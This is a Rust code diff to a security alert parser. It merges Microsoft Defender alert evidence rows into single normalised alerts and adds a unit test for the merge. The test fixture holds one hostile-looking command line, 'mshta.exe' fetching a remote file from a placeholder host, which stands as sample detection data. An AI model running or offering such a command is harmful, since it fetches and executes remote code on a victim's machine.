@@ -56,6 +56,7 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
     // A whole-file document or array first.
     if let Ok(v) = serde_json::from_str::<Json>(trimmed) {
         return match v {
+            Json::Array(items) if is_alert_evidence(&items) => merge_alert_evidence(items),
             Json::Array(items) => items
                 .into_iter()
                 .enumerate()
@@ -84,11 +85,103 @@ pub fn parse_text(text: &str) -> Vec<Result<Alert, BadAlert>> {
     out
 }
 
+/// Defender's AlertEvidence rows exported together: every row an entity of an alert
+/// (`AlertId`, `EntityType`).
+fn is_alert_evidence(items: &[Json]) -> bool {
+    items.len() > 1
+        && items
+            .iter()
+            .all(|r| r.get("AlertId").is_some() && r.get("EntityType").is_some())
+}
+
+/// One alert per `AlertId` from its evidence rows: the last Process row with a command line
+/// is the alert and the one before it its parent, the Machine and User rows name the host and
+/// account where it lacks them, and every row is kept under `evidence_rows`.
+fn merge_alert_evidence(items: Vec<Json>) -> Vec<Result<Alert, BadAlert>> {
+    let mut groups: Vec<(String, Vec<Json>)> = Vec::new();
+    for r in items {
+        let id = r.get("AlertId").map(Json::to_string).unwrap_or_default();
+        match groups.iter_mut().find(|(g, _)| *g == id) {
+            Some((_, rows)) => rows.push(r),
+            None => groups.push((id, vec![r])),
+        }
+    }
+    groups
+        .into_iter()
+        .enumerate()
+        .map(|(i, (_, rows))| {
+            let field = |k: &str| {
+                rows.iter()
+                    .find_map(|r| {
+                        r.get(k)
+                            .filter(|v| v.as_str().is_some_and(|s| !s.is_empty()))
+                    })
+                    .cloned()
+            };
+            // Process rows come in the chain's order: the last is the alert's process, the one
+            // before it its parent.
+            let procs: Vec<&Json> = rows
+                .iter()
+                .filter(|r| {
+                    r.get("EntityType").and_then(Json::as_str) == Some("Process")
+                        && r.get("ProcessCommandLine")
+                            .and_then(Json::as_str)
+                            .is_some_and(|c| !c.is_empty())
+                })
+                .collect();
+            let mut main = procs
+                .last()
+                .copied()
+                .or_else(|| rows.first())
+                .cloned()
+                .unwrap_or(Json::Null);
+            if let (Json::Object(m), Some(parent)) =
+                (&mut main, procs.len().checked_sub(2).map(|i| procs[i]))
+            {
+                for (from, to) in [
+                    ("FileName", "InitiatingProcessFileName"),
+                    ("FolderPath", "InitiatingProcessFolderPath"),
+                    ("ProcessCommandLine", "InitiatingProcessCommandLine"),
+                ] {
+                    if m.get(to).and_then(Json::as_str).is_none_or(str::is_empty)
+                        && let Some(v) = parent.get(from).filter(|v| v.is_string())
+                    {
+                        m.insert(to.into(), v.clone());
+                    }
+                }
+            }
+            if let Json::Object(m) = &mut main {
+                for k in [
+                    "DeviceName",
+                    "AccountName",
+                    "AccountDomain",
+                    "RemoteUrl",
+                    "RemoteIP",
+                ] {
+                    if m.get(k).and_then(Json::as_str).is_none_or(str::is_empty)
+                        && let Some(v) = field(k)
+                    {
+                        m.insert(k.into(), v);
+                    }
+                }
+                m.insert("evidence_rows".into(), Json::Array(rows.clone()));
+            }
+            from_json(main, &format!("alert {} of the evidence rows", i + 1))
+        })
+        .collect()
+}
+
 /// At most this many events of one rule report become alerts; the rest are reported.
 const MAX_RULE_MATCHES: usize = 1000;
 
 /// Normalises one parsed document, or each event of a Sigma engine's rule report.
 pub fn from_json_expanded(doc: Json, position: &str) -> Vec<Result<Alert, BadAlert>> {
+    // An alert's evidence rows kept together as one record (a test case, a JSON line).
+    if let Json::Array(items) = &doc
+        && is_alert_evidence(items)
+    {
+        return merge_alert_evidence(items.clone());
+    }
     // A whole Elasticsearch/Kibana search response (`signals/search`, `_search`): one alert per
     // hit, each read as a hit (`_source`, `_id`).
     if let Json::Object(o) = &doc
@@ -2583,6 +2676,20 @@ mod tests {
             d.doc["threat"]["technique"]["id"],
             json!(["T1572", "T1059"])
         );
+        // An alert's evidence rows exported together: one alert, the Process row with the
+        // Machine row's host and the User row's account.
+        let rows = json!([
+            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "Machine", "DeviceName": "ws-9.corp"},
+            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "User", "AccountName": "bs"},
+            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "Process", "FileName": "mshta.exe",
+             "ProcessCommandLine": "mshta.exe https://x.top/c.mp4"},
+            {"AlertId": "da9", "Title": "Run dialog", "EntityType": "Url", "RemoteUrl": "https://x.top/c.mp4"}]);
+        let out = parse_text(&rows.to_string());
+        assert_eq!(out.len(), 1);
+        let a = out[0].as_ref().unwrap();
+        assert_eq!(a.doc["process"]["name"], "mshta.exe");
+        assert_eq!(a.doc["host"]["name"], "ws-9.corp");
+        assert_eq!(a.doc["user"]["name"], "bs");
     }
 
     #[test]
